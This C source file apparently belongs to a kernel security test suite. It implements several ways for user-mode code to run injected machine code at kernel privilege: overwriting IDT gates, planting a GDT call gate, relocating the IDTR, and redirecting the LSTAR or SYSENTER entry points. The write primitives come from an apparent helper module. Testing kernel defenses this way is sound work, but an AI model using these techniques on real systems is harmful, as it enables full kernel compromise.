// SPDX-License-Identifier: MIT OR Apache-2.0
/* hole: user mode enters the kernel where nobody approved anything. */
#include <stddef.h>
#include <string.h>
#include <sys/mman.h>

#include "hole.h"

#ifdef __x86_64__
enum { KERNEL_CS = 0x10, GATE = 16 };
#define LONG_MODE 1
#else
enum { KERNEL_CS = 0x60, GATE = 8 };
#define LONG_MODE 0
#endif

/* a vector that the kernel leaves to devices, and none has */
enum { VECTOR = 0x91, INTERRUPT_GATE = 0xee, CALL_GATE = 0xec };

/* ---- what runs at the privilege of the kernel ---- */

static u8 *end;

static void emit(const void *code, size_t size)
{
	memcpy(end, code, size);
	end += size;
}

#define emit_bytes(...) do {					\
	static const u8 bytes[] = { __VA_ARGS__ };		\
	emit(bytes, sizeof(bytes));				\
} while (0)

static void emit32(u32 value)
{
	emit(&value, 4);
}

/* begins the gadget: writes to the witness, changes no register but those it is told to */
static void begin(void)
{
	u64 to = DIRECT + witness;

	end = gadget;
	if (LONG_MODE) {
		emit_bytes(0x50, 0x48, 0xb8);		/* push %rax; movabs to,%rax */
		emit(&to, 8);
		emit_bytes(0xc7, 0x00, 1, 0, 0, 0, 0x58);	/* movl $1,(%rax); pop %rax */
	} else {
		emit_bytes(0xc7, 0x05);			/* movl $1,to */
		emit32((u32)to);
		emit32(1);
	}
	aim = (unsigned long)gadget;
	target = physical(aim);
}

static void end_with_iret(void)
{
	if (LONG_MODE)
		emit_bytes(0x48);
	emit_bytes(0xcf);
}

/* returns behind the instruction of two bytes that faulted */
static void end_behind(void)
{
	if (LONG_MODE)
		emit_bytes(0x48);
	emit_bytes(0x83, 0x04, 0x24, 2);	/* add $2,(%rsp) */
	end_with_iret();
}

/* ---- gates ---- */

static u64 gate_of(int vector)
{
	return physical(symbol("idt_table") + (u64)GATE * vector);
}

static void set_gate(u64 where, u64 offset, int type)
{
	u32 gate[4] = {
		(u32)KERNEL_CS << 16 | (offset & 0xffff),
		(offset & 0xffff0000) | (u32)type << 8, offset >> 32, 0,
	};

	store(where, gate, GATE);
}

static void gate(int vector)
{
	set_gate(gate_of(vector), aim, INTERRUPT_GATE);
}

static void int_gate(void) { begin(); end_with_iret(); gate(VECTOR); }
static void breakpoint_gate(void) { begin(); end_with_iret(); gate(3); }
static void divide_gate(void) { begin(); end_behind(); gate(0); }
static void undefined_gate(void) { begin(); end_behind(); gate(6); }

static void interrupt(void)
{
	hide_gadget();
	asm volatile("int %0" : : "i" (VECTOR) : "memory");
}

static void breakpoint(void)
{
	hide_gadget();
	asm volatile("int3" : : : "memory");
}

static void divide(void)
{
	hide_gadget();
	asm volatile("div %b0" : : "c" (0), "a" (1), "d" (0) : "memory");	/* two bytes */
}

static void undefined(void)
{
	hide_gadget();
	asm volatile("ud2" : : : "memory");
}

static void call_gate(void)
{
	/* the first of two that nobody uses */
	u64 place = physical(symbol("gdt_page") + (LONG_MODE ? 10 : 5) * 8);

	begin();
	if (LONG_MODE)
		emit_bytes(0x48);
	emit_bytes(0xcb);		/* lret */
	set_gate(place, aim, CALL_GATE);
}

static void far_call(void)
{
	static const struct {
		u32 offset;
		uint16_t selector;
	} __attribute__((packed)) far = { 0, LONG_MODE ? 10 * 8 + 3 : 5 * 8 + 3 };

	hide_gadget();
	asm volatile("lcall *%0" : : "m" (far) : "memory");
}

/* the table itself elsewhere */
static struct {
	uint16_t limit;
	unsigned long base;
} __attribute__((packed)) own_table;

static void table(void)
{
	static u8 copy[PAGE];
	u64 page = new_page();

	begin();
	end_with_iret();
	fetch(symbol("idt_table"), copy, GATE * 256);
	put(page, copy, GATE * 256);
	set_gate(page - DIRECT + GATE * VECTOR, aim, INTERRUPT_GATE);
	own_table.limit = GATE * 256 - 1;
	own_table.base = page;
}

static void moved_table(void)
{
	u64 page = new_page();

	hide_gadget();
	put(page, &own_table, sizeof(own_table));
	ask0(HOLE_LIDT, page);
	asm volatile("int %0" : : "i" (VECTOR) : "memory");
	ask0(HOLE_LIDT, symbol("idt_descr"));
}

/* ---- an honest pointer whose page is another one ---- */

#ifdef __x86_64__
/* SYSCALL of 32-bit code: its page has nothing that an exception in the kernel needs */
static void handler(void)
{
	static const u8 jump[] = { 0xff, 0xe3 };	/* jmp *%rbx */

	begin();
	emit_bytes(0x0f, 0x07);		/* sysretl */
	impersonate(symbol("entry_SYSCALL_compat"), jump, sizeof(jump));
}

static void through_handler(void)
{
	static const u8 code[] = { 0x0f, 0x05, 0xcb };	/* syscall; lret, in 32-bit code */
	static struct {
		u32 offset;
		uint16_t selector;
	} __attribute__((packed)) far;
	static u64 stack;
	u8 *low = mmap((void *)0x30300000, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);

	memcpy(low, code, sizeof(code));
	far.offset = (unsigned long)low;
	far.selector = 0x23;
	hide_gadget();
	repoint();
	asm volatile("mov %%rsp, %0\n"
		     "mov %1, %%rsp\n"
		     "lcall *%2\n"
		     "mov %0, %%rsp"
		     : "+m" (stack) : "r" (low + PAGE - 16), "m" (far), "b" (gadget), "a" (20)
		     : "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
}

/* the pointer itself */
enum { LSTAR = 0xc0000082 };

static void system_call(void)
{
	u64 old = ask0(HOLE_RDMSR, LSTAR);

	begin();
	emit_bytes(0x49, 0x89, 0xca, 0xb9);	/* mov %rcx,%r10; mov $LSTAR,%ecx */
	emit32(LSTAR);
	emit_bytes(0xb8);			/* mov $low,%eax; mov $high,%edx */
	emit32((u32)old);
	emit_bytes(0xba);
	emit32((u32)(old >> 32));
	/* wrmsr; mov %r10,%rcx; sysretq */
	emit_bytes(0x0f, 0x30, 0x4c, 0x89, 0xd1, 0x48, 0x0f, 0x07);
}

static void through_system_call(void)
{
	long result;

	hide_gadget();
	/* the call that asks for it returns by IRET or SYSRET, not through what it changed */
	ask1(HOLE_WRMSR, LSTAR, aim);
	asm volatile("syscall" : "=a" (result) : "0" (39)
		     : "rcx", "rdx", "r10", "r11", "memory");
}
#else
/* SYSENTER, which the kernel does not use */
static void system_call(void)
{
	begin();
	emit_bytes(0xfb, 0x0f, 0x35);		/* sti; sysexit */
}

static void sysenter(void)
{
	asm volatile("mov %%esp, %%ecx\n"
		     "mov $1f, %%edx\n"
		     "sysenter\n"
		     "1:" : : : "ecx", "edx", "memory");
}

static void through_system_call(void)
{
	hide_gadget();
	ask1(HOLE_WRMSR, 0x174, KERNEL_CS);
	ask1(HOLE_WRMSR, 0x175, new_page() + PAGE);
	ask1(HOLE_WRMSR, 0x176, aim);
	guarded(sysenter);
}
#endif

const struct attack enter_attacks[] = {
	{ "idt-int", int_gate, interrupt },
	{ "idt-breakpoint", breakpoint_gate, breakpoint },
	{ "idt-divide", divide_gate, divide },
	{ "idt-undefined", undefined_gate, undefined },
	{ "gdt-call-gate", call_gate, far_call },
#ifdef __x86_64__
	/* a 32-bit kernel enters itself by the page that this takes from it */
	{ "entry-repointed", handler, through_handler },
#endif
	{ "idtr-moved", table, moved_table },
	{ LONG_MODE ? "lstar" : "sysenter", system_call, through_system_call },
	{ NULL, NULL, NULL },
};
